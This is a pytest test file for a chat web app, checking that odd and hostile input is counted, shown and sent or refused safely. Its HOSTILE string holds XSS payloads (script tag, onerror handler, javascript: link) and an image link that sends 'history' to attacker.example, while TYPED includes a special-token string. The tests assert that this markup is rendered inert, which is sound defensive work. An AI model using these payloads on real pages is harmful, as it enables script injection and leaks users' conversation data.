"""Hostile and odd input on the real chat page: counted, shown, and sent or refused with a reason."""

from __future__ import annotations

from pathlib import Path

import pytest

from lib.context.conversation import clean_text
from lib.context.display import inert_markdown
from tests.app.conftest import chat_calls, chat_on, errors_shown, metric, payload_json, send
from tests.fake_openai import Behaviour, FakeOpenAI

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[2]
# What a user can type or paste (a browser sends no lone surrogate: its UTF-8 encoder replaces them).
TYPED = (
    "RTL: مرحبا بالعالم — שלום עולם; emoji: 👩🏽‍💻 👨‍👩‍👧‍👦 🇫🇷 e\u0301; controls: tab\t bell\x07 esc\x1b[31m "
    "NUL\x00; bidi override: \u202eevil\u202c; BOM \ufeff; <|endoftext|>"
)
# What a server may send: JSON escapes decode to lone surrogates (a reply cut inside an emoji).
ANSWERED = "half an emoji: \ud83d, a lone low half: \udc00, NUL\x00 and a fox 🦊"
HOSTILE = (
    '<script>window.__pwned = 1</script> <img src=x onerror="window.__pwned = 2"> '
    "![tracker](https://attacker.example/p.png?q=history) [a link](javascript:window.__pwned=3) **bold**"
)


def _tokens(at) -> int:
    return int(metric(at, "Prompt tokens").replace(",", ""))


def test_odd_text_is_counted_sent_and_shown():
    with FakeOpenAI() as server:
        at = chat_on(server.base_url)
        server.behaviour = Behaviour(echo=True)  # the reply is the question, as the server received it
        at.text_area(key="draft").set_value(TYPED).run()
        assert not at.exception, at.exception
        assert _tokens(at) > 20
        send(at, TYPED)
        sent = TYPED.replace("\x00", "")  # NUL is the one character dropped
        assert server.requests[-1].json()["messages"][-1]["content"] == sent
        history = at.session_state["history"]
        assert [(m.content, m.status) for m in history] == [(sent, "ok"), (sent, "ok")]
        assert sum(m.value == sent for m in at.markdown) == 2  # both shown, as sent
        assert not at.error


def test_lone_surrogates_in_a_reply_are_replaced_not_a_crash():
    with FakeOpenAI() as server:
        at = chat_on(server.base_url)
        server.behaviour = Behaviour(reply=ANSWERED)
        send(at, "Show me an emoji.")
        reply = at.session_state["history"][-1]
        assert (
            reply.content == clean_text(ANSWERED) == "half an emoji: \ufffd, a lone low half: \ufffd, NUL and a fox 🦊"
        )
        assert reply.content.encode("utf-8")  # storable and sendable again
        send(at, "And again?")  # the reply is part of the next payload: it serialises
        assert server.requests[-1].json()["messages"][-2]["content"] == reply.content


def test_a_5_mb_paste_is_counted_and_refused_with_a_reason_and_kept():
    paste = ("Lorem ipsum dolor sit amet, 👩🏽‍💻 مرحبا \x07 consectetur. " * 90_000)[: 5 * 1024 * 1024]
    with FakeOpenAI() as server:
        at = chat_on(server.base_url)
        at.text_area(key="draft").set_value(paste).run()
        assert not at.exception, at.exception
        assert _tokens(at) > 1_000_000
        assert int(metric(at, "Payload").split()[0].replace(",", "")) > 5_000_000
        assert len(payload_json(at)) < 100_000  # the preview shortens it; the browser would freeze on 5 MB
        assert any("characters of very long messages are not shown" in c.value for c in at.caption)
        send(at, paste)
        assert at.session_state["history"] == [] and chat_calls(server) == []  # no call: the model list only
        assert "context window is 8,192" in errors_shown(at) and "Leave some messages out" in errors_shown(at)
        assert at.text_area(key="draft").value == paste  # kept for the user to cut down


def test_markup_in_messages_and_replies_is_rendered_inert():
    with FakeOpenAI() as server:
        at = chat_on(server.base_url)
        server.behaviour = Behaviour(reply=HOSTILE)
        send(at, HOSTILE)
        history = at.session_state["history"]
        assert [m.content for m in history] == [HOSTILE, HOSTILE]  # stored as typed and as answered
        assert sum(m.value == inert_markdown(HOSTILE) for m in at.markdown) == 2  # the question and the answer
        assert not any("![" in m.value for m in at.markdown)  # the image is shown as text, never fetched
        assert not any(m.proto.allow_html for m in at.markdown)  # raw HTML is never let through


def test_no_page_lets_raw_html_into_markdown():
    sources = [ROOT / "app.py", *sorted((ROOT / "pages").glob("*.py")), *sorted((ROOT / "ui").glob("*.py"))]
    offenders = [path.name for path in sources if "unsafe_allow_html" in path.read_text()]
    assert offenders == []
